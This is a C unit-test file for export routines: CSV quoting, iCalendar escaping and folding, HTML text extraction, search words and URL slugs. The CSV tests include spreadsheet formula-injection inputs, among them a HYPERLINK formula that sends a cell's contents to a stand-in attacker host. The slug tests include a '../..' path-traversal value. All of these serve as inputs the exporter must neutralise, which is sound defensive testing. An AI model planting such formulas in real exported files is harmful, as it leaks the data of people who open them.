/*
 * Unit tests: exports (CSV, iCalendar, page text) and facet slugs.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "buf.h"
#include "exports.h"
#include "facet.h"
#include "unit.h"

void
test_exports__csv_field(void)
{
	struct buf b = BUF_INIT;

	exports_csv_field(&b, "plain");
	CHECK_STR(b.ptr, "plain");
	buf_truncate(&b, 0);
	exports_csv_field(&b, "Kaspersky Lab, Inc.");
	CHECK_STR(b.ptr, "\"Kaspersky Lab, Inc.\"");
	buf_truncate(&b, 0);
	exports_csv_field(&b, "say \"no\"\r\nnext");
	CHECK_STR(b.ptr, "\"say \"\"no\"\"\r\nnext\"");
	buf_truncate(&b, 0);
	exports_csv_field(&b, NULL);
	CHECK_STR(b.ptr, "");
	buf_release(&b);
}

void
test_exports__csv_formula(void)
{
	static const char *const cases[][2] = {
		{ "=1+1", "'=1+1" },
		{ "+Russia", "'+Russia" },
		{ "-2+3", "'-2+3" },
		{ "@SUM(1+1)", "'@SUM(1+1)" },
		{ "\tTab", "\"'\tTab\"" },
		{ "\rCR", "\"'\rCR\"" },
		{ "\nLF", "\"'\nLF\"" },
		{ "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
		  "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\"" },
		/*
		 * A separator other than ',' that a spreadsheet may split
		 * at (';' in many locales, tab) is quoted too, or the cell
		 * after it would start a formula.
		 */
		{ "Safe;=1+2", "\"Safe;=1+2\"" },
		{ "Safe\t=1+2", "\"Safe\t=1+2\"" },
		{ "=1+2\";=1+2", "\"'=1+2\"\";=1+2\"" },
		{ "\tTab;", "\"'\tTab;\"" },
		{ "Lab = 1", "Lab = 1" },
		{ "a-b", "a-b" },
		{ " =1", " =1" },
		{ "", "" },
	};
	struct buf b = BUF_INIT;
	size_t i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		buf_truncate(&b, 0);
		exports_csv_field(&b, cases[i][0]);
		CHECK_STR(b.ptr, cases[i][1]);
	}
	buf_release(&b);
}

void
test_exports__ics_text(void)
{
	struct buf b = BUF_INIT;

	exports_ics_text(&b, "a,b;c\\d\r\ne");
	CHECK_STR(b.ptr, "a\\,b\\;c\\\\d\\ne");
	/* A CR alone breaks the line too: the words stay apart. */
	buf_truncate(&b, 0);
	exports_ics_text(&b, "one\rtwo\r\n\rthree\n");
	CHECK_STR(b.ptr, "one\\ntwo\\n\\nthree\\n");
	/*
	 * What TEXT cannot hold (RFC 5545's CONTROL: DEL, C0 but tab)
	 * becomes a space; a tab and what is beyond ASCII stay.
	 */
	buf_truncate(&b, 0);
	exports_ics_text(&b, "a\x7f" "b\x01\x1f" "c\td\xc2\x85" "e");
	CHECK_STR(b.ptr, "a b  c\td\xc2\x85" "e");
	buf_release(&b);
}

/* Every physical line is at most 75 octets, ends in CRLF, and unfolds back. */
static void
check_folded(const char *line)
{
	struct buf b = BUF_INIT, back = BUF_INIT;
	const char *p, *eol;

	exports_ics_line(&b, line);
	CHECK(b.len >= 2 && strcmp(b.ptr + b.len - 2, "\r\n") == 0);
	for (p = b.ptr; *p != '\0'; p = eol + 2) {
		eol = strstr(p, "\r\n");
		CHECK(eol != NULL);
		if (eol == NULL)
			break;
		CHECK(eol - p <= 75);
		/* A continuation starts with a space; no cut in UTF-8. */
		if (p != b.ptr) {
			CHECK(*p == ' ');
			CHECK(((unsigned char)p[1] & 0xC0) != 0x80);
			buf_put(&back, p + 1, (size_t)(eol - p - 1));
		} else
			buf_put(&back, p, (size_t)(eol - p));
	}
	CHECK_STR(back.ptr, line);
	buf_release(&b);
	buf_release(&back);
}

void
test_exports__ics_fold(void)
{
	struct buf b = BUF_INIT, l = BUF_INIT;
	int i;

	exports_ics_line(&b, "VERSION:2.0");
	CHECK_STR(b.ptr, "VERSION:2.0\r\n");
	buf_release(&b);
	/* Exactly 75 octets: not folded; 76: folded once. */
	for (i = 0; i < 75; i++)
		buf_putc(&l, 'x');
	exports_ics_line(&b, l.ptr);
	CHECK_INT(b.len, 77);
	buf_truncate(&b, 0);
	buf_putc(&l, 'y');
	exports_ics_line(&b, l.ptr);
	CHECK_STR(b.ptr + 75, "\r\n y\r\n");
	buf_release(&b);
	check_folded(l.ptr);
	/* Two-, three- and four-byte characters across the fold. */
	buf_truncate(&l, 0);
	BUF_PUTSL(&l, "SUMMARY:");
	for (i = 0; i < 40; i++)
		BUF_PUTSL(&l, "\xc3\xbc\xe2\x80\x94\xf0\x9f\x93\x85");
	check_folded(l.ptr);
	/* An escape is not cut from its backslash. */
	buf_truncate(&l, 0);
	for (i = 0; i < 74; i++)
		buf_putc(&l, 'x');
	BUF_PUTSL(&l, "\\,tail");
	exports_ics_line(&b, l.ptr);
	CHECK(strstr(b.ptr, "\r\n \\,tail") != NULL);
	check_folded(l.ptr);
	/* Nor an escaped backslash from the one that escapes it. */
	buf_truncate(&b, 0);
	buf_truncate(&l, 0);
	for (i = 0; i < 73; i++)
		buf_putc(&l, 'x');
	BUF_PUTSL(&l, "\\\\tail");
	exports_ics_line(&b, l.ptr);
	CHECK(strstr(b.ptr, "x\\\\\r\n tail") != NULL);
	check_folded(l.ptr);
	buf_truncate(&b, 0);
	buf_truncate(&l, 0);
	for (i = 0; i < 72; i++)
		buf_putc(&l, 'x');
	BUF_PUTSL(&l, "\\\\\\,tail");
	exports_ics_line(&b, l.ptr);
	CHECK(strstr(b.ptr, "x\\\\\r\n \\,tail") != NULL);
	check_folded(l.ptr);
	buf_release(&b);
	buf_release(&l);
}

void
test_exports__html_text(void)
{
	static const struct {
		const char	*before;	/* in the buffer already */
		const char	*html;
		size_t		 max;
		const char	*want;
	} cases[] = {
		{ "", "<h2 id=\"a\">Scope</h2>\n<p>Tom &amp; "
		  "Jerry&#39;s <em>film</em></p><script>var x = '<p>';</script>"
		  "<style>p { }</style><p>end</p>", 1000,
		  "Scope Tom & Jerry's film end" },
		/* Cut at the limit, never inside a UTF-8 character. */
		{ "", "<p>ab\xc3\xbc\xc3\xbc</p>", 4, "ab\xc3\xbc" },
		{ "", "<p>ab\xc3\xbc\xc3\xbc</p>", 5, "ab\xc3\xbc" },
		{ "", "<p>unclosed <b", 100, "unclosed" },
		/* Words and single spaces are copied as they are, runs folded. */
		{ "", "<p>  lead  and   many\tspaces </p>a b &amp; c", 100,
		  "lead and many spaces a b & c" },
		{ "", "<p>one two three</p>", 7, "one two" },
		/* Markdown's inline markup inside a word keeps it whole. */
		{ "", "<p>Z<em>T</em>E and Hua<strong>wei</strong>, "
		  "<code>x</code>y, a<del>b</del>c</p><p>next</p>", 100,
		  "ZTE and Huawei, xy, abc next" },
		/* In any case; a tag that only starts as one does parts words. */
		{ "", "<p>a<EM>b</Em>c d<Strong>e</STRONG>f g<summary>h</summary>"
		  "i j<emph>k</emph>l m<dfn>n</dfn>o p<caption>q r<aside>s"
		  "</aside>t u<section>v</section>w</p>", 100,
		  "abc def g h i j k l m n o p q r s t u v w" },
		/* So do links, a directive's badge and HTML's inline markup. */
		{ "", "<p>foo<a href=\"x\">bar</a>baz, Globex<span class=\"s\"> "
		  "<span class=\"b\">Banned</span></span>. <abbr>U</abbr>S"
		  "<sup>1</sup> H<sub>2</sub>O <b>x</b><i>y</i><u>z</u><s>w</s>"
		  "<mark>v</mark><small>t</small><time>u</time></p>", 100,
		  "foobarbaz, Globex Banned. US1 H2O xyzwvtu" },
		/* Other tags part words: a table's cells, a list's items. */
		{ "", "<td>a</td><td>b</td><li>c</li><span>d</span><br />e",
		  100, "a b c d e" },
		/* After text already there, as a page's description. */
		{ "About. ", " <p>first</p> <p>second</p>", 12,
		  "About. first second" }
	};
	struct buf b = BUF_INIT;
	size_t i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		buf_truncate(&b, 0);
		buf_puts(&b, cases[i].before);
		exports_html_text(&b, cases[i].html, cases[i].max);
		CHECK_STR(b.ptr, cases[i].want);
	}
	buf_release(&b);
}

void
test_exports__html_description(void)
{
	static const struct {
		const char	*html;
		bool		 any;
		const char	*want;	/* NULL: none */
	} cases[] = {
		{ NULL, true, NULL },
		{ "", true, NULL },
		/* The first paragraph, after headings, rules, a list, raw HTML. */
		{ "<h1>T</h1>\n<hr />\n<ul>\n<li>x</li>\n</ul>\n<!-- <p>c</p> -->"
		  "\n  <div><p>in</p></div>\n<p>The <em>one</em>.</p>\n<p>2</p>\n",
		  false, "The one." },
		/* Comments closed at once, as HTML and cmark-gfm close them. */
		{ "<!-->\n<p>One.</p>\n", false, "One." },
		{ "<!--->\n<p>Two.</p>\n", false, "Two." },
		{ "<!---->\n<p>Three.</p>\n", false, "Three." },
		/* Raw HTML indented from the first line on. */
		{ "  <div>\n<p>raw</p>\n  </div>\n<p>After.</p>\n", false,
		  "After." },
		/* No paragraph: a summary's first block but headings; a page's none. */
		{ "<h2>W</h2>\n<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n", true, "a b" },
		{ "<h2>W</h2>\n<ul>\n<li>a</li>\n</ul>\n", false, NULL },
		{ "<h2>Only</h2>\n", true, "Only" },
		/* Elements of one name nested; a tag with no end; a lone text. */
		{ "<div><div>x</div></div><p>y</p>", false, "y" },
		{ "<div>x<p>y</p>", false, NULL },
		{ "text", true, "text" },
		/* A paragraph of an image alone: the next one. */
		{ "<p><img src=\"a.png\" alt=\"\" /></p>\n<p>Second.</p>\n",
		  false, "Second." },
		/* A start tag whose name ends otherwise than at a space. */
		{ "<div\r\nclass=\"x\"><div>in</div></div>\n<p>After.</p>\n",
		  false, "After." },
		{ "<div\fid=\"x\">a</div>\n<div>b</div>\n<p>After.</p>\n",
		  false, "After." },
		/* Short text as it is; a long one cut after a word, "…" added. */
		{ "<p>,,,</p>", true, ",,," },
		{ "<p>aaaaaaaaa aaaaaaaaa aaaaaaaaa aaaaaaaaa aaaaaaaaa aaaaaaaaa "
		  "aaaaaaaaa aaaaaaaaa aaaaaaaaa aaaaaaaaa aaaaaaaaa aaaaaaaaa "
		  "aaaaaaaaa aaaaaaaaa aaaaaaaaa aaaaaaaaa, bb</p>", false,
		  "aaaaaaaaa aaaaaaaaa aaaaaaaaa aaaaaaaaa aaaaaaaaa aaaaaaaaa "
		  "aaaaaaaaa aaaaaaaaa aaaaaaaaa aaaaaaaaa aaaaaaaaa aaaaaaaaa "
		  "aaaaaaaaa aaaaaaaaa aaaaaaaaa aaaaaaaaa\xe2\x80\xa6" }
	};
	size_t i;
	char *d;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		d = exports_html_description(cases[i].html, cases[i].any);
		CHECK_STR(d != NULL ? d : "(none)",
		    cases[i].want != NULL ? cases[i].want : "(none)");
		free(d);
	}
}

void
test_exports__search_words(void)
{
	static const struct {
		const char	*text;
		const char	*want;
	} cases[] = {
		{ "", "" },
		{ "  \t\n ", "" },
		/* Each word once, lower case, in the order first seen. */
		{ "The ban and the Ban: BAN the ban.", "the ban and" },
		/* Punctuation cut from the ends only. */
		{ "(source). U.S. \"17-01\" bod-17-01, C++ ... -- x",
		  "source u.s 17-01 bod-17-01 c x" },
		/* Only ASCII letters are lowered; other bytes are kept. */
		{ "\xc3\x9c" "ber \xc3\xbc" "ber \xc3\x9c" "ber \xc2\xb7 "
		  "Zo\xc3\xab", "\xc3\x9c" "ber \xc3\xbc" "ber \xc2\xb7 zo\xc3\xab" },
		/* A word and a longer one that starts with it are two words. */
		{ "ban banned ban bann banned", "ban banned bann" },
	};
	struct buf b = BUF_INIT;
	char many[4096], *big;
	size_t i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		buf_truncate(&b, 0);
		exports_search_words(&b, cases[i].text);
		CHECK_STR(b.len > 0 ? b.ptr : "", cases[i].want);
	}
	/* Many distinct words, past the first size of the table. */
	for (i = 0; i < 1000; i++)
		snprintf(many + i * 4, 5, "%03zu ", i % 500);
	buf_truncate(&b, 0);
	exports_search_words(&b, many);
	CHECK(b.len == 500 * 4 - 1);
	CHECK(strncmp(b.ptr, "000 001 002 ", 12) == 0);
	CHECK_STR(b.ptr + b.len - 7, "498 499");
	/* A word kept by an earlier text is not kept for the next. */
	buf_truncate(&b, 0);
	exports_search_words(&b, "Alpha beta");
	CHECK_STR(b.ptr, "alpha beta");
	buf_truncate(&b, 0);
	exports_search_words(&b, "beta, ALPHA beta gamma");
	CHECK_STR(b.ptr, "beta alpha gamma");
	/* After what the buffer holds, with no space before the first. */
	buf_truncate(&b, 0);
	buf_puts(&b, "x|");
	exports_search_words(&b, "  one two one ");
	CHECK_STR(b.ptr, "x|one two");
	/* A text longer than any item's, then a short one again. */
	big = malloc(30000 * 6 + 1);
	CHECK(big != NULL);
	if (big == NULL)
		return;
	for (i = 0; i < 30000; i++)
		snprintf(big + i * 6, 7, "%05zu ", i % 20000);
	buf_truncate(&b, 0);
	exports_search_words(&b, big);
	CHECK(b.len == 20000 * 6 - 1);
	CHECK_STR(b.ptr + b.len - 11, "19998 19999");
	free(big);
	buf_truncate(&b, 0);
	exports_search_words(&b, "beta alpha Beta");
	CHECK_STR(b.ptr, "beta alpha");
	buf_release(&b);
}

void
test_facet__slug(void)
{
	char *s;

	CHECK_STR(s = facet_slug("DHS"), "dhs");
	free(s);
	CHECK_STR(s = facet_slug("U.S. Congress"), "u-s-congress");
	free(s);
	CHECK_STR(s = facet_slug("  Treasury (OFAC)  "), "treasury-ofac");
	free(s);
	CHECK_STR(s = facet_slug("Homeland Security \xe2\x80\x94 CISA"),
	    "homeland-security-cisa");
	free(s);
	CHECK_STR(s = facet_slug("\xc3\x9c" "berwachung f\xc3\xbcr BSI"),
	    "\xc3\xbc" "berwachung-f\xc3\xbcr-bsi");
	free(s);
	CHECK_STR(s = facet_slug("../.."), "unnamed");
	free(s);
	CHECK_STR(s = facet_out(FACET_COUNTRY, "ru"), "country/ru/index.html");
	free(s);
	CHECK_STR(s = facet_out(FACET_TYPE, NULL), "type/index.html");
	free(s);
}
